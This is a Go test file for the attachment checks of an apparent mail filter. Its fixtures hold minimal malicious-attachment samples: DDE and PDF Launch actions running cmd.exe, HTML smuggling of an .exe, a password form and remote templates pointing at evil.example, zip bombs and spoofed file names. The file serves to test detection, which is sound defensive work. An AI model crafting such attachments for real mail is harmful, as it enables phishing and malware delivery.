package keys

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"

	"garita/mail"
)

// attached is a message with attachments of one name and content.
type attached struct {
	name, data string
	fields     string // in place of those of the name
	times      int
	settings   string // what the class needs to be found
}

// raw is the message.
func (a attached) raw(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("From: a@sender.example\r\nTo: b@our.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_b\"\r\n\r\n")
	b.WriteString("--=_b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHola, va adjunto.\r\n")
	fields := a.fields
	if fields == "" {
		fields = fmt.Sprintf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"%s\"", a.name)
	}
	for range max(1, a.times) {
		b.WriteString("--=_b\r\n" + fields + "\r\nContent-Transfer-Encoding: base64\r\n\r\n")
		for e := base64.StdEncoding.EncodeToString([]byte(a.data)); e != ""; {
			n := min(76, len(e))
			b.WriteString(e[:n] + "\r\n")
			e = e[n:]
		}
	}
	b.WriteString("--=_b--\r\n")
	return b.String()
}

// packed is a zip; names and contents alternate.
func packed(files ...string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(files); i += 2 {
		w, err := z.Create(files[i])
		if err == nil {
			_, err = w.Write([]byte(files[i+1]))
		}
		if err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

// locked is a zip whose member says that it is encrypted.
func locked() string {
	b := []byte(packed("a.txt", "secret"))
	b[6] |= 1 // the flags of the member's header, and of the directory's record
	at := bytes.Index(b, []byte("PK\x01\x02"))
	b[at+8] |= 1
	return string(b)
}

// windows is enough of a program to be one.
func windows() string {
	b := make([]byte, 256)
	copy(b, "MZ")
	b[60] = 0x80
	copy(b[128:], "PE\x00\x00")
	return string(b)
}

// sheet is a PDF with a catalogue and more objects.
func sheet(catalogue string, objects ...string) string {
	s := "%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + catalogue + " >>\nendobj\n"
	for i, o := range objects {
		s += fmt.Sprintf("%d 0 obj\n%s\nendobj\n", i+2, o)
	}
	return s + "trailer\n<< /Root 1 0 R >>\n%%EOF\n"
}

// office is a document of Word; more files alternate with their contents.
func office(body string, more ...string) string {
	const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	return packed(append([]string{"[Content_Types].xml", types, "_rels/.rels", relations("officeDocument", "word/document.xml", "Internal"),
		"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body + `</w:body></w:document>`}, more...)...)
}

func relations(kind, target, mode string) string {
	return fmt.Sprintf(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, kind, target, mode)
}

// compound is a compound file of one stream.
func compound(name string, data []byte) string {
	const none = 0xFFFFFFFF
	le := binary.LittleEndian
	b := make([]byte, 512*3)
	copy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	le.PutUint16(b[24:], 0x3E)
	le.PutUint16(b[26:], 3)
	le.PutUint16(b[28:], 0xFFFE)
	le.PutUint16(b[30:], 9)
	le.PutUint16(b[32:], 6)
	le.PutUint32(b[44:], 1)    // sectors of the table
	le.PutUint32(b[48:], 1)    // the directory
	le.PutUint32(b[56:], 4096) // smaller streams are in the mini stream: ours is not
	le.PutUint32(b[60:], 0xFFFFFFFE)
	le.PutUint32(b[68:], 0xFFFFFFFE)
	for i := 76; i < 512; i += 4 {
		le.PutUint32(b[i:], none)
	}
	le.PutUint32(b[76:], 0)
	table, dir := b[512:1024], b[1024:1536]
	for i := 0; i < 512; i += 4 {
		le.PutUint32(table[i:], none)
	}
	le.PutUint32(table[0:], 0xFFFFFFFD)
	le.PutUint32(table[4:], 0xFFFFFFFE)
	data = append(data, make([]byte, 4096)...)
	data = data[:4096]
	for i := range 8 {
		next := uint32(3 + i)
		if i == 7 {
			next = 0xFFFFFFFE
		}
		le.PutUint32(table[4*(2+i):], next)
	}
	entry := func(at int, name string, kind byte, child, start, size uint32) {
		e := dir[128*at:]
		for i, c := range []byte(name) {
			e[2*i] = c
		}
		le.PutUint16(e[64:], uint16(2*len(name)+2))
		e[66], e[67] = kind, 1
		le.PutUint32(e[68:], none)
		le.PutUint32(e[72:], none)
		le.PutUint32(e[76:], child)
		le.PutUint32(e[116:], start)
		le.PutUint32(e[120:], size)
	}
	entry(0, "Root Entry", 5, 1, 0xFFFFFFFE, 0)
	entry(1, name, 2, none, 2, 4096)
	return string(append(b, data...))
}

// classLetters are messages with an attachment of each class but crash, which
// nothing that is known brings about; filters/attachment shows that one.
func classLetters() map[string]attached {
	image := make([]byte, 40000)
	copy(image[32769:], "CD001")
	deep := packed("a.txt", "x")
	for range 12 {
		deep = packed("a.zip", deep)
	}
	page := func(body string) string { return "<html>" + body + "</html>" }
	word := make([]byte, 64)
	word[0], word[1], word[11] = 0xEC, 0xA5, 1 // the password bit of a Word document
	sheetRecord := func(id byte, data string) []byte { return append([]byte{id, 0, byte(len(data)), 0}, data...) }
	return map[string]attached{
		"executable":         {name: "a.exe", data: windows()},
		"script":             {name: "a.js", data: "x()"},
		"shortcut":           {name: "a.lnk", data: "L\x00\x00\x00\x01\x14\x02\x00"},
		"clsid":              {name: "a.{25336920-03F9-11cf-8FD0-00AA00686F13}", data: "x"},
		"double_extension":   {name: "a.pdf.exe", data: "x"},
		"blocked":            {name: "a.xyz", data: "x", settings: "check.attachment.extensions = [\"xyz\"]\n"},
		"too_large":          {name: "a.txt", data: "xxxxx", settings: "check.attachment.max_size = \"4B\"\n"},
		"bomb":               {name: "a.zip", data: deep},
		"disk_image":         {name: "a.iso", data: string(image)},
		"archive_encrypted":  {name: "a.zip", data: locked()},
		"archive_ambiguous":  {name: "a.zip", data: packed("a.txt", "x") + packed("b.txt", "y")},
		"archive_opaque":     {name: "a.r00", data: "\x01\x02\x03\x04junk\x00\x01"},
		"macro_auto":         {name: "a.xls", data: compound("Workbook", append(sheetRecord(0x85, "\x00\x00\x00\x00\x02\x01\x01\x00A"), sheetRecord(0x18, "\x20\x00\x00\x01"+strings.Repeat("\x00", 11)+"\x01")...))},
		"xlm":                {name: "a.xls", data: compound("Workbook", append(sheetRecord(0x85, "\x00\x00\x00\x00\x02\x01\x01\x00A"), sheetRecord(0x0A, "")...))},
		"remote_template":    {name: "a.docx", data: office("", "word/_rels/settings.xml.rels", relations("attachedTemplate", "http://evil.example/a.dotm", "External"))},
		"dde":                {name: "a.docx", data: office(`<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe x"/></w:p>`)},
		"equation":           {name: "a.doc", data: compound("Equation Native", []byte("x"))},
		"rtf_object":         {name: "a.rtf", data: `{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500}}}`},
		"pdf_launch":         {name: "a.pdf", data: sheet("/OpenAction << /S /Launch /F (cmd.exe) >>")},
		"html_smuggling":     {name: "a.html", data: page(`<script>var b=new Blob([atob("` + strings.Repeat("TVqQAAMA", 200) + `")]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='a.exe';a.click();</script>`)},
		"svg_script":         {name: "a.svg", data: `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
		"macro":              {name: "a.docm", data: "x"},
		"mismatch":           {name: "a.png", data: packed("a.txt", "x")},
		"html_form":          {name: "a.html", data: page(`<form action="http://evil.example/"><input type="password" name="p"></form>`)},
		"bidi":               {name: "in\u202etxt.pdf", data: sheet("")},
		"hidden_name":        {name: "a" + strings.Repeat(" ", 14) + ".pdf", data: sheet("")},
		"external_link":      {name: "a.docx", data: office("", "word/_rels/document.xml.rels", relations("externalLinkPath", "http://evil.example/a.xlsx", "External"))},
		"document_encrypted": {name: "a.doc", data: compound("WordDocument", word)},
		"document_damaged":   {name: "a.doc", data: compound("WordDocument", make([]byte, 64))[:1100]},
		"pdf_script":         {name: "a.pdf", data: sheet(`/OpenAction << /S /JavaScript /JS (app.alert\(1\)) >>`)},
		"pdf_embedded":       {name: "a.pdf", data: sheet("/Names << /EmbeddedFiles << /Names [(a.txt) 2 0 R] >> >>", "<< /Type /Filespec /F (a.txt) /EF << /F 3 0 R >> >>", "<< /Type /EmbeddedFile /Length 4 >>\nstream\nhola\nendstream")},
		"embedded_object":    {name: "a.doc", data: compound("\x03OCXNAME", []byte("x"))},
		"html_attachment":    {name: "a.html", data: page("hola")},
		"long_name":          {name: strings.Repeat("a", 160) + ".txt", data: "x"},
		"too_many":           {name: "a.txt", data: "x", times: 3, settings: "check.attachment.max_count = 2\n"},
		"sealed":             {name: "a.asc", data: "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0\r\n-----END PGP MESSAGE-----\r\n"},
	}
}

// attachmentRows are the other keys of [check.attachment].
func attachmentRows() []effect {
	const a = "check.attachment."
	only := func(b string) string { return b + "\n" }
	return []effect{
		{key: a + "mode", value: `"observe"`, scene: "executable", want: "-verdict reject", still: "attachment.executable"},
		{key: a + "extensions", value: `["txt"]`, scene: "long_name", want: "+attachment.blocked"},
		{key: a + "types", value: `["application/*"]`, scene: "long_name", want: "+attachment.blocked"},
		{key: a + "allow", value: `["js"]`, base: a + "extensions = []", scene: "script", want: "-attachment.script", still: "verdict continue"},
		{key: a + "max_count", value: "2", scene: "too_many", want: "+attachment.too_many"},
		{key: a + "max_size", value: `"4B"`, scene: "too_large", want: "+attachment.too_large"},
		{key: a + "except_recipients", value: `["b@our.example"]`, scene: "executable", want: "-verdict reject", still: "attachment.executable"},
		{key: a + "except_senders", value: `["sender.example"]`, scene: "executable", want: "-verdict reject", still: "attachment.executable"},
		{key: a + "archives.depth", value: "20", scene: "bomb", want: "-attachment.bomb", still: "verdict continue"},
		{key: a + "archives.members", value: "2", scene: "four", want: "+attachment.bomb"},
		{key: a + "archives.unpacked", value: `"1MB"`, base: only(a + "archives.ratio = 10000"), scene: "zeros", want: "+attachment.bomb"},
		{key: a + "archives.member", value: `"64KB"`, base: only(a + "archives.ratio = 10000"), scene: "zeros", want: "+attachment.bomb"},
		{key: a + "archives.ratio", value: "10000", scene: "zeros", want: "-attachment.bomb", still: "verdict continue"},
		{key: a + "archives.document", value: `"64KB"`, scene: "page of zeros", want: "+attachment.bomb"},
	}
}

// TestAttachment: the keys of [check.attachment] beside the classes.
func TestAttachment(t *testing.T) {
	run(t, attachmentRows(), func(t *testing.T, toml string, e effect) string {
		d := newDesk(t, bare("attachment")+toml)
		letter, ok := classLetters()[e.scene]
		switch e.scene {
		case "four":
			letter, ok = attached{name: "a.zip", data: packed("a", "1", "b", "2", "c", "3", "d", "4")}, true
		case "zeros":
			letter, ok = attached{name: "a.zip", data: packed("a.txt", strings.Repeat("\x00", 4<<20))}, true
		case "page of zeros":
			letter, ok = attached{name: "a.docx", data: office(strings.Repeat("<w:p/>", 40000))}, true
		}
		if !ok {
			t.Fatal(e.scene)
		}
		d.judge(letter.raw(t), mail.In)
		return d.text()
	})
}
